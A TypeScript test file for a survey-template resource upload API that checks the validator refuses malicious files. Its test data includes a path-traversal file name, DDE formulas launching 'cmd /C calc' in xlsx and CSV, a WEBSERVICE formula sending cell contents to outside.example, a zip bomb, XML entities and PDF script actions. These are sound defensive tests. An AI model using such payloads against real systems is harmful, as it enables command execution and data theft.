import { readdirSync, readFileSync } from 'node:fs'
import { utimes, writeFile } from 'node:fs/promises'
import { brotliDecompressSync, gunzipSync } from 'node:zlib'
import { utils, write } from '@e965/xlsx'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { ManagedResource } from '#contract/library/resources.ts'
import type { SurveyTemplateDetail } from '#contract/library/templates.ts'
import { fileLimits, overLimit } from '#contract/limits.ts'
import { auditEvents } from '#server/testing/data/audit-trail.ts'
import { importWorkbook, signInPeople } from '#server/testing/data/district-people.ts'
import { libraryWorkbook, template } from '#server/testing/data/factories.ts'
import { sendFile } from '#server/testing/data/send-file.ts'
import { uploadLibrary } from '#server/testing/data/upload-library.ts'
import { linksOf, sheetTypes, xlsxWith } from '#server/testing/documents/active-office-files.ts'
import { pdfOf } from '#server/testing/documents/pdf-files.ts'
import { doJob } from '#server/testing/nightly.ts'
import { startTestApp, type TestApp } from '#server/testing/test-app.ts'
import { type Part, zipOf } from '#server/testing/workbooks/workbook-parts.ts'

const address = '/api/surveytemplateresources'
const pdf = Buffer.from('%PDF-1.7\n%%EOF')
const demoFiles = new URL('../../../../library/resources/', import.meta.url)

let server: TestApp
let admin: string

beforeAll(async () => {
  server = await startTestApp()
  admin = (await signInPeople(server, [])).admin
})
afterAll(() => server.close())

const upload = (name: string, content: Uint8Array = pdf) =>
  sendFile(server, admin, address, { name, content })
const list = async () => (await server.request({ url: address, as: admin })).json<ManagedResource[]>()
const find = async (key: string) => (await list()).find(({ externalId }) => externalId === key)
const remove = (id: string, query = '') =>
  server.request({ method: 'DELETE', url: `${address}/${id}${query}`, as: admin })
/** The number of files of resources, once those whose removal was decided are gone. */
async function storedFiles(): Promise<number> {
  await server.deps.database.db.updateTable('removals').set({ due_on: server.deps.clock() }).execute()
  await doJob(server, 'remove-files')
  return readdirSync(`${server.deps.config.dataDir}/files/template-resources`).length
}
const events = (action: string) => auditEvents(server.deps.database.db).where('action', '=', action).execute()

async function content(id: string) {
  const link = await server.request({ url: `${address}/${id}/tempurl`, as: admin })
  return (await server.request({ url: new URL(link.body).pathname })).body
}

describe('a resource name', () => {
  const type = 'Please select a valid file (.pdf, docx, .xlsx, .csv, .pptx)'
  const form = 'Invalid file name format. Expected format: <template id>~<resource name>.<extension>'

  test.each([
    ['1~Letter.exe', type],
    ['1~Letter', type],
    ['1~Letter.pdf.docm', type],
    ['Letter.pdf', form],
    ['1~~Letter.pdf', form],
    ['1~Letter~home.pdf', form],
    ['0~Letter.pdf', form],
    ['2147483648~Letter.pdf', form],
    ['-1~Letter.pdf', form],
    ['one~Letter.pdf', form],
    ['1~ .pdf', form],
    ['1~..\\..\\secret-key.pdf', form],
    ['1~Let\u0001ter.pdf', form],
    ['1~Let\u202etter.pdf', form],
    [`1~${'a'.repeat(151)}.pdf`, 'The resource name has 151 characters. At most 150 are allowed.'],
  ])('%j is refused', async (name, message) => {
    const answer = await upload(name)
    expect(answer.json()).toMatchObject({ statusCode: 422, code: 'validation_failed', message })
    expect(await list()).toEqual([])
  })
})

describe('the content of a resource', () => {
  const types = (main: string): Part => ({
    name: '[Content_Types].xml',
    content: `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.${main}"/></Types>`,
  })
  const word = types('wordprocessingml.document.main+xml')
  const document: Part = { name: 'word/document.xml', content: '<document/>' }
  const another = /^The content of this file is not that of an? .+\. Save it in this format, or name it/

  test.each<[string, string, Uint8Array, RegExp]>([
    ['no bytes', 'pdf', Buffer.alloc(0), /^This file is empty/],
    ['HTML named as a PDF', 'pdf', Buffer.from('<html><script>alert(1)</script>'), another],
    ['a PDF named as a document', 'docx', pdf, another],
    ['a document named as a workbook', 'xlsx', zipOf([word, document]), another],
    ['a workbook named as a presentation', 'pptx', zipOf([types('spreadsheetml.sheet.main+xml')]), another],
    ['a zip of other files named as a document', 'docx', zipOf([{ name: 'a.txt', content: 'a' }]), another],
    ['a PDF named as a table', 'csv', pdf, another],
    ['a table with a NUL character', 'csv', Buffer.from(`a;b\n${'x'.repeat(200_000)}\0`), another],
    [
      'macros',
      'docx',
      zipOf([word, document, { name: 'word/vbaProject.bin', content: 'x' }]),
      /^This file holds macros \(word\/vbaProject\.bin\)\. Save it without this and upload it again\.$/,
    ],
    ['a script', 'pdf', pdfOf('<</S/JavaScript/JS(x)>>'), /^This file holds a script \(object 1\)\./],
    ['a program before its header', 'pdf', Buffer.concat([Buffer.from('MZ'), pdf]), another],
    [
      'a macro sheet of another name',
      'xlsx',
      xlsxWith('', sheetTypes({ '/xl/worksheets/sheet9.xml': 'application/vnd.ms-excel.macrosheet+xml' }), {
        name: 'xl/worksheets/sheet9.xml',
        content: '<xm:macrosheet/>',
      }),
      /holds a macro sheet \(xl\/worksheets\/sheet9\.xml\)/,
    ],
    [
      'a macro sheet by its relationship alone',
      'xlsx',
      xlsxWith(
        '',
        sheetTypes(),
        linksOf('xl/sheets.xml', [
          {
            type: 'http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet',
            target: 'a.xml',
          },
        ]),
        { name: 'xl/a.xml', content: '<xm:macrosheet/>' },
      ),
      /holds a macro sheet \(xl\/a\.xml\)/,
    ],
    [
      'a DDE link',
      'xlsx',
      xlsxWith('', sheetTypes(), {
        name: 'xl/externalLinks/externalLink1.xml',
        content: '<externalLink><x:ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
      }),
      /holds a DDE link \(xl\/externalLinks\/externalLink1\.xml\)/,
    ],
    [
      'a formula with DDE',
      'xlsx',
      xlsxWith(`<row><c><f>cmd&#124;'/C calc'!A0</f></c></row>`, sheetTypes()),
      /holds a formula with DDE \(xl\/worksheets\/sheet1\.xml\)/,
    ],
    [
      'a formula that sends what is in a cell',
      'xlsx',
      xlsxWith('<row><c><f>_xlfn.WEBSERVICE("http://outside.example/"&amp;A1)</f></c></row>', sheetTypes()),
      /holds a formula that loads from elsewhere/,
    ],
    [
      'a link to a workbook on the web, and a connection',
      'xlsx',
      xlsxWith(
        '',
        sheetTypes(),
        linksOf('xl/externalLinks/externalLink1.xml', [
          { type: 'externalLinkPath', target: 'https://outside.example/a.xlsx', external: true },
        ]),
        {
          name: 'xl/connections.xml',
          content: '<connections><connection refreshOnLoad="1"/></connections>',
        },
      ),
      /holds a link to a workbook elsewhere \(.+\) and a connection that loads data when it is opened \(/,
    ],
    [
      'a program behind a picture',
      'pptx',
      zipOf([
        types('presentationml.presentation.main+xml'),
        { name: 'ppt/presentation.xml', content: '<p:presentation/>' },
        { name: 'ppt/slides/slide1.xml', content: '<a:hlinkClick action="ppaction://program"/>' },
      ]),
      /holds an action that starts a program \(ppt\/slides\/slide1\.xml\)/,
    ],
    [
      'a formula that starts a program',
      'csv',
      Buffer.from(`a,b\r\n1,"=2+5+cmd|' /C calc'!A0"\r\n`),
      /holds a formula with DDE \(line 2\)/,
    ],
    [
      'such a formula in UTF-16',
      'csv',
      Buffer.from(`\ufeff@cmd|' /C calc'!A0;2`, 'utf16le'),
      /holds a formula with DDE \(line 1\)/,
    ],
    ['a PDF cut short', 'pdf', pdf.subarray(0, -2), /damaged or incomplete/],
    ['a document cut short', 'docx', zipOf([word, document]).subarray(0, -30), /damaged or incomplete/],
    [
      'a zip bomb',
      'docx',
      zipOf([word, { name: 'word/document.xml', content: `<a>${' '.repeat(9_000_000)}</a>` }]),
      /packed in an unusual way/,
    ],
    [
      'a wrong size in its directory',
      'docx',
      zipOf([word, { ...document, claims: 2 }]),
      /packed in an unusual way/,
    ],
    [
      'XML entities',
      'docx',
      zipOf([word, { ...document, content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }]),
      /packed in an unusual way/,
    ],
  ])('with %s is refused', async (_, type, file, message) => {
    const answer = await upload(`1~Letter.${type}`, file)
    expect(answer.json()).toMatchObject({ statusCode: 422, code: 'validation_failed' })
    expect(answer.json().message).toMatch(message)
    expect(await list()).toEqual([])
  })

  test('over the limit is refused with the limit in the sentence', async () => {
    const answer = await upload('1~Large.pdf', Buffer.alloc(fileLimits.resource + 1, '%PDF-'))
    expect(answer.json()).toMatchObject({
      statusCode: 413,
      code: 'too_large',
      message: `The file ${overLimit(fileLimits.resource)}`,
    })
  })

  test('is accepted in the format of its file name, whatever program wrote it', async () => {
    const office = readdirSync(demoFiles).filter((name) => /^\d+~.+\.(docx|xlsx|pptx|pdf|csv)$/.test(name))
    expect(office.length).toBeGreaterThan(0)
    for (const name of office) {
      const answer = await upload(name, readFileSync(new URL(encodeURIComponent(name), demoFiles)))
      expect(answer.json(), name).toEqual({ fileKey: `template-resources/${name}` })
    }
    const harmless = xlsxWith(
      `<row><c><f>IF('a|b'!A1="c|d",IMAGESUM(1),1)</f></c></row>`,
      sheetTypes(),
      linksOf('xl/externalLinks/externalLink1.xml', [
        { type: 'externalLinkPath', target: 'file:///C:\\Data\\Last%20year.xlsx', external: true },
      ]),
      linksOf('xl/worksheets/sheet1.xml', [
        { type: 'hyperlink', target: 'https://outside.example/', external: true },
      ]),
      { name: 'xl/connections.xml', content: '<connections><connection refreshOnLoad="0"/></connections>' },
    )
    expect((await upload('7~Costs.xlsx', harmless)).statusCode).toBe(201)
    // SheetJS, with which many programs write, names a type of macros for an ending that no part has.
    const book = utils.book_new()
    utils.book_append_sheet(book, utils.aoa_to_sheet([['Month', 'Cost']]))
    const written = write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer
    expect((await upload('7~Written by a program.xlsx', written)).statusCode).toBe(201)
    const answers = Buffer.from('q,a\n-5 | low,yes!\n@home|away,"=SUM(1)"\nx,a|b!\n')
    expect((await upload('7~Answers.csv', answers)).statusCode).toBe(201)
    const table = await upload('7~Ergebnisse Übersicht.csv', Buffer.from('Name;Größe\nÄnne;1\n', 'latin1'))
    expect(table.json()).toEqual({ fileKey: 'template-resources/7~Ergebnisse Übersicht.csv' })
    for (const { id } of await list()) expect((await remove(id)).statusCode).toBe(204)
    expect(await storedFiles()).toBe(0)
  })
})

test('a file may be stored before its template, and again under the same key and id', async () => {
  const first = await upload('5~Letter home.pdf')
  const fileKey = 'template-resources/5~Letter home.pdf'
  expect([first.statusCode, first.json()]).toEqual([201, { fileKey }])
  const before = await find(fileKey)
  expect(before).toMatchObject({
    title: 'Letter home',
    templateName: '',
    templateId: 5,
    resourceType: 'pdf',
    usedBy: [],
  })
  server.passTime(1_000)
  const second = await upload('05~LETTER home.PDF', Buffer.from('%PDF-2.0 %%EOF'))
  expect([second.statusCode, second.json()]).toEqual([201, { fileKey }])
  const after = await find(fileKey)
  expect(after?.id).toBe(before?.id)
  expect(after!.updatedOn > before!.updatedOn).toBe(true)
  expect(await content(after!.id)).toBe('%PDF-2.0 %%EOF')
  await Promise.all(['5~Twice.pdf', '5~TWICE.pdf', '5~twice.PDF'].map((name) => upload(name)))
  expect((await list()).map(({ title }) => title.toLowerCase())).toEqual(['letter home', 'twice'])
  expect(await storedFiles()).toBe(2)
  const [stored] = await events('resource_stored').then((all) => all.slice(-5))
  expect(stored).toMatchObject({ before: null, after: { fileKey, bytes: pdf.length } })
})

test('a file that templates list is deleted only together with its links', async () => {
  const key = 'template-resources/5~Letter home.pdf'
  await upload('6~Another.pdf')
  const listed = (templateId: number, title: string, file = key, resourceType = 'Template' as const) => ({
    row: 0,
    templateId,
    title,
    resourceType,
    key: file,
  })
  const workbook = await libraryWorkbook([template(5), template(6)], {
    relatedResources: [
      listed(5, 'Letter'),
      listed(6, 'Letter too'),
      listed(6, 'Another', 'template-resources/6~Another.pdf'),
    ],
  })
  const { revision } = await importWorkbook(server.deps, workbook)
  const resource = await find(key)
  expect(resource).toMatchObject({
    templateName: 'Template 5',
    usedBy: [
      { id: 5, name: 'Template 5' },
      { id: 6, name: 'Template 6' },
    ],
  })
  const refused = await remove(resource!.id)
  expect(refused.json()).toMatchObject({
    statusCode: 409,
    code: 'conflict',
    message: expect.stringContaining('“Template 5” (5) and “Template 6” (6)'),
  })
  expect(await content(resource!.id)).toBe('%PDF-2.0 %%EOF')

  const files = await storedFiles()
  expect((await remove(resource!.id, '?unlink=true')).statusCode).toBe(204)
  expect(await storedFiles()).toBe(files - 1)
  expect(await find(key)).toBeUndefined()
  expect((await remove(resource!.id, '?unlink=true')).statusCode).toBe(404)
  const detail = async (id: number) =>
    (await server.request({ url: `/api/SurveyTemplates/${id}`, as: admin })).json<SurveyTemplateDetail>()
  const titles = async (id: number) => (await detail(id)).relatedResources.map(({ title }) => title)
  expect(await titles(5)).toEqual(['Printable questionnaire'])
  expect(await titles(6)).toEqual(['Another'])
  const [questionnaire] = (await detail(5)).relatedResources
  expect((await remove(questionnaire!.id, '?unlink=true')).statusCode).toBe(404)

  // What was previewed before is no longer what would happen, and its file names a key that is gone.
  const again = await uploadLibrary(server, admin, workbook, { revision })
  expect(again.json()).toMatchObject({
    statusCode: 422,
    issues: [{ path: 'Related Resources row 2, Key' }, { path: 'Related Resources row 3, Key' }],
  })
  const [deleted] = await events('resource_deleted').then((all) => all.slice(-1))
  expect(deleted).toMatchObject({ before: { fileKey: key, usedBy: [5, 6] }, after: null })
})

test.each([
  ['br', brotliDecompressSync],
  ['gzip', gunzipSync],
] as const)(
  'the list and the audit trail are compressed by %s where that is accepted',
  async (encoding, decompress) => {
    for (let index = 0; index < 10; index++) await upload(`${300 + index}~Letter.pdf`)
    for (const url of [address, '/api/audit-events/csv']) {
      const plain = await server.request({ url, as: admin })
      const packed = await server.request({ url, as: admin, headers: { 'accept-encoding': encoding } })
      expect([packed.statusCode, packed.headers['content-encoding']]).toEqual([200, encoding])
      expect(packed.headers.vary).toContain('accept-encoding')
      expect(plain.headers['content-encoding']).toBeUndefined()
      expect(decompress(packed.rawPayload).toString()).toBe(plain.body)
      expect(packed.rawPayload.length).toBeLessThan(plain.rawPayload.length / 2)
    }
  },
)

describe('files that no row names', () => {
  const old = ['survey-results/a.xlsx', 'insights-reports/b.pdf']
  const night = async () => {
    await doJob(server, 'sweep-files')
    const listed = await Array.fromAsync(server.deps.files.list())
    return listed.map(({ key }) => key)
  }
  const place = (key: string) => `${server.deps.config.dataDir}/files/${key}`

  test('go when they are old; those of rows, of a planned removal, young ones and those of others stay', async () => {
    const { files } = server.deps
    await upload('77~Kept.pdf')
    await upload('78~Gone.pdf')
    const before = new Set((await Array.fromAsync(files.list())).map(({ key }) => key))
    await remove((await find('template-resources/78~Gone.pdf'))!.id)
    for (const key of [...old, 'survey-results/young.xlsx', 'elsewhere/of-another.txt'])
      await files.put(key, Buffer.from('x'))
    await writeFile(place('.incoming/broken-off.pdf'), 'x')
    const days = (count: number) => new Date(server.deps.clock().getTime() - count * 24 * 60 * 60 * 1000)
    await utimes(place('.incoming/broken-off.pdf'), days(8), days(8))
    for (const key of [...before, ...old, 'elsewhere/of-another.txt'])
      await utimes(place(key), days(8), days(8))
    await utimes(place('survey-results/young.xlsx'), days(6), days(6))
    const left = await night()
    expect(left.filter((key) => !before.has(key)).sort()).toEqual([
      'elsewhere/of-another.txt',
      'survey-results/young.xlsx',
    ])
    expect([...before].filter((key) => !left.includes(key))).toEqual([])
    expect(readdirSync(place('.incoming'))).toEqual([])
    expect(await content((await find('template-resources/77~Kept.pdf'))!.id)).toBe(pdf.toString())
    expect(server.logged).toContainEqual(
      expect.objectContaining({ msg: 'files without a row were removed', unclaimed: 2, removed: 2 }),
    )
    const metrics = await server.request({ url: '/metrics', headers: { host: 'localhost' } })
    expect(metrics.body).toContain('chorus_files_without_row{state="removed"} 2')
  })

  test('stay where they are so many that the database is rather that of another storage', async () => {
    const many = Array.from({ length: 40 }, (_, index) => `survey-results/${index}.xlsx`)
    for (const key of many) {
      await server.deps.files.put(key, Buffer.from('x'))
      await utimes(place(key), 0, 0)
    }
    const left = await night()
    expect(many.filter((key) => !left.includes(key))).toEqual([])
    expect(server.logged).toContainEqual(expect.objectContaining({ level: 50, unclaimed: 40, removed: 0 }))
  })
})
